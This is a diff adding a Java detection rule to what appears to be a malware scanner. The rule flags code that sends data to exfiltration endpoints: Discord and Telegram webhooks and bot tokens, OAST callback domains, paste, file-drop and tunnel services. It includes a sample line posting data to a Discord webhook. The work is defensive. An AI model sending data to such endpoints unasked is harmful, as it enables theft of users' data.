@@ -1,0 +1,83 @@
+package dev.kingsnake.rules.network;
+
+import dev.kingsnake.Confidence;
+import dev.kingsnake.Severity;
+import dev.kingsnake.spi.RuleInfo;
+import dev.kingsnake.spi.Tags;
+
+import java.util.EnumSet;
+import java.util.List;
+import java.util.Set;
+
+/** Services that malware uses to receive stolen data or stage payloads: webhooks, bots, paste/drop sites, OAST. */
+public final class ExfilEndpointRule extends IndicatorRule {
+
+    private static final RuleInfo INFO = new RuleInfo("KS-NET-EXFIL-ENDPOINT",
+            "Talks to a data-drop endpoint: chat webhooks/bots, request catchers and OAST callback domains, paste, "
+                    + "file-drop and tunnel services",
+            Severity.HIGH, Confidence.HIGH, Set.of(Tags.NETWORK, Tags.EXFILTRATION),
+            "requests.post('https://discord.com/api/webhooks/123/abc', json={'content': data})  # id/token made up",
+            "Webhook and bot client libraries name the base API; a concrete webhook URL or bot token, or an OAST / "
+                    + "request-catcher domain, is reported always (critical when the same function sends data); base "
+                    + "APIs, paste, file-drop and tunnel services only where the same function sends data (high), uses "
+                    + "the network (medium) or the file does (lower).");
+
+    private static final List<Indicator> INDICATORS = List.of(
+            Indicator.strong("Discord webhook with id and token",
+                    "discord(app)?\\.com/api/(v\\d+/)?webhooks/\\d{6,}/[\\w-]{20,}"),
+            Indicator.strong("Telegram bot token", "api\\.telegram\\.org/bot\\d{6,}:[\\w-]{20,}"),
+            Indicator.strongExact("hard-coded Telegram bot token", "^\\d{8,10}:AA[0-9A-Za-z_-]{33}$"),
+            Indicator.strong("request catcher / OAST callback domain",
+                    "(webhook\\.site|requestbin\\.(com|net)|\\.m\\.pipedream\\.net|(^|[./])interact\\.sh|\\.oast\\."
+                            + "(pro|live|site|online|fun|me)|oastify\\.com|burpcollaborator\\.net|dnslog\\.cn|\\.ceye\\.io"
+                            + "|canarytokens\\.com|hookbin\\.com|requestcatcher\\.com|webhookrelay\\.com|\\.beeceptor\\.com"
+                            + "|\\.xss\\.ht|pingb\\.in|\\.dnslog\\.|bxss\\.me|\\.requestrepo\\.com)"),
+            Indicator.weak("Discord webhook API", "discord(app)?\\.com/api/(v\\d+/)?webhooks"),
+            Indicator.weak("Telegram bot API", "api\\.telegram\\.org/bot"),
+            Indicator.weak("Slack/Teams incoming webhook", "hooks\\.slack\\.com/services/t|webhook\\.office\\.com"),
+            Indicator.weak("paste site", "(pastebin\\.com|paste\\.ee|hastebin\\.com|rentry\\.(co|org)|ghostbin\\."
+                    + "|controlc\\.com|privatebin\\.|termbin\\.com|dpaste\\.(com|org)|paste\\.c-net\\.org)"),
+            Indicator.weak("file-drop service", "(transfer\\.sh|file\\.io|anonfiles\\.|gofile\\.io|bashupload\\.com"
+                    + "|catbox\\.moe|tmpfiles\\.org|temp\\.sh|oshi\\.at|0x0\\.st|filebin\\.net|pixeldrain\\.com"
+                    + "|uguu\\.se|store\\d*\\.gofile\\.io)"),
+            Indicator.weak("tunnel service", "(\\.ngrok(-free)?\\.(io|app|dev)|ngrok\\.io|\\.trycloudflare\\.com"
+                    + "|serveo\\.net|\\.loca\\.lt|localhost\\.run|\\.pagekite\\.me|\\.localto\\.net|portmap\\.io)"));
+
+    @Override
+    public RuleInfo info() {
+        return INFO;
+    }
+
+    @Override
+    protected List<Indicator> indicators() {
+        return INDICATORS;
+    }
+
+    @Override
+    protected Set<Capability> companions() {
+        return EnumSet.of(Capability.NETWORK, Capability.PROCESS);
+    }
+
+    @Override
+    protected Grade grade(CodeFacts facts, Hit h, boolean several) {
+        boolean sendsHere = facts.scopeHas(h.string().scope(), Capability.SEND);
+        if (h.indicator().strong()) {
+            return new Grade(sendsHere ? Severity.CRITICAL : Severity.HIGH, Confidence.HIGH);
+        }
+        if (sendsHere) {
+            return new Grade(Severity.HIGH, Confidence.HIGH);
+        }
+        if (hasAny(facts.scope(h.string().scope()), companions())) {
+            return new Grade(Severity.MEDIUM, Confidence.HIGH);
+        }
+        if (hasAny(facts.fileCaps(), companions())) {
+            return new Grade(Severity.MEDIUM, Confidence.MEDIUM);
+        }
+        return null;
+    }
+
+    @Override
+    protected String message(String label) {
+        return "names a data-drop endpoint (" + label + ")";
+    }
+}
